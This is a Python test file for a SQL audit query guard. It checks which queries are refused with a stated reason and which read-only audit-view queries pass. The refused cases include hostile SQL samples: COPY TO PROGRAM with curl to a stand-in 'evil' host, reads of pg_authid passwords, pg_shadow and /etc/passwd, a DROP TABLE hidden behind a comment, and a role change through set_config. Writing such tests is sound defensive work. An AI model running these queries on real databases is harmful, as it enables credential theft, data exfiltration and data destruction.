"""The audit query guard: what it refuses (with the reason) and what it lets through."""

from __future__ import annotations

import pytest

from tutopanda.audit.guard import QueryRefused, guard

REFUSED = {
    "insert": ("INSERT INTO app.projects (created_by) VALUES ('x')", "only SELECT"),
    "update": ("UPDATE audit.lecture_history SET actor = 'x'", "only SELECT"),
    "delete": ("DELETE FROM app.lecture_revisions", "only SELECT"),
    "ddl": ("DROP TABLE app.projects", "only SELECT"),
    "create": ("CREATE TABLE audit.mine AS SELECT 1", "only SELECT"),
    "two statements": ("SELECT 1; SELECT 2", "exactly one statement"),
    "writable cte": (
        "WITH gone AS (DELETE FROM app.projects RETURNING id) SELECT * FROM gone",
        "DELETE",
    ),
    "for update": ("SELECT * FROM audit.lecture_history FOR UPDATE", "LOCK"),
    "for share": ("SELECT * FROM audit.lectures FOR SHARE", "LOCK"),
    "pg_sleep": ("SELECT pg_sleep(60)", "pg_sleep"),
    "set_config": ("SELECT set_config('role', 'postgres', false)", "set_config"),
    "current_setting": ("SELECT current_setting('data_directory')", "current_setting"),
    "dblink": ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", "dblink"),
    "copy": ("COPY (SELECT * FROM audit.lecture_history) TO PROGRAM 'curl evil'", "COPY"),
    "copy to file": ("COPY app.projects TO '/tmp/x'", "COPY"),
    "app table": ("SELECT * FROM app.projects", "not app.projects"),
    "app in a subquery": (
        "SELECT * FROM audit.lectures WHERE owner IN (SELECT created_by FROM app.projects)",
        "not app.projects",
    ),
    "pg_catalog secrets": ("SELECT rolpassword FROM pg_catalog.pg_authid", "pg_catalog.pg_authid"),
    "pg_shadow": ("SELECT * FROM pg_catalog.pg_shadow", "pg_catalog.pg_shadow"),
    "comment hides a statement": (
        "SELECT 1 /* harmless */; -- and then\nDROP TABLE app.projects",
        "exactly one statement",
    ),
    "select into": ("SELECT * INTO audit.copy FROM audit.lecture_history", "INTO"),
    "lo_import": ("SELECT lo_import('/etc/passwd')", "lo_import"),
    "pg_read_file": ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    "nextval": ("SELECT nextval('app.projects_id_seq')", "nextval"),
    "parameters": ("SELECT * FROM audit.lectures WHERE lecture_id = $1", "PARAMETER"),
    "explain": ("EXPLAIN ANALYZE SELECT 1", "EXPLAIN"),
    "set": ("SET statement_timeout = 0", "only SELECT"),
    "begin": ("BEGIN", "only SELECT"),
    "lock": ("LOCK TABLE app.projects", "LOCK"),
    "cross database": ("SELECT * FROM other.audit.lectures", "cross-database"),
    "not sql": ("this is not sql at all ((", "not valid PostgreSQL"),
    "nul": ("SELECT 1\x00", "NUL"),
    "empty": ("   ", "exactly one statement"),
    "too deep": ("SELECT " + "(" * 3000 + "1" + ")" * 3000, "nested too deeply"),
}


@pytest.mark.parametrize(("query", "reason"), REFUSED.values(), ids=REFUSED.keys())
def test_refused_with_the_reason(query: str, reason: str) -> None:
    with pytest.raises(QueryRefused) as refused:
        guard(query, 100)
    message = str(refused.value)
    assert reason in message
    assert "\n" not in message


ACCEPTED = [
    "SELECT * FROM audit.lecture_history",
    "select actor, count(*) from lecture_history group by actor",
    "WITH recent AS (SELECT * FROM audit.lecture_history WHERE changed_at > now() - "
    "interval '7 days') SELECT actor FROM recent",
    "SELECT lecture_id FROM audit.lectures UNION SELECT lecture_id FROM audit.lecture_history",
    "SELECT data -> 'timeline' ->> 'duration' FROM audit.lecture_snapshots",
    "SELECT s, count(*) FROM audit.lecture_history, unnest(changed_sections) AS s GROUP BY s",
    "SELECT row_number() OVER (PARTITION BY lecture_id ORDER BY revision) FROM "
    "audit.lecture_history",
    "SELECT * FROM audit.lecture_history /* ; DROP TABLE x */ -- ; DELETE",
]


@pytest.mark.parametrize("query", ACCEPTED)
def test_accepted_queries_run_only_audit_views_with_a_limit(query: str) -> None:
    guarded = guard(query, 50)
    assert guarded.sql.endswith("LIMIT 51")
    assert "app." not in guarded.sql
    assert "DROP" not in guarded.sql
    assert "DELETE" not in guarded.sql


def test_unqualified_names_are_audit_views_but_ctes_stay_ctes() -> None:
    sql = guard("WITH t AS (SELECT 1 AS x) SELECT * FROM t, lectures", 10).sql
    assert "audit.lectures" in sql
    assert "audit.t" not in sql
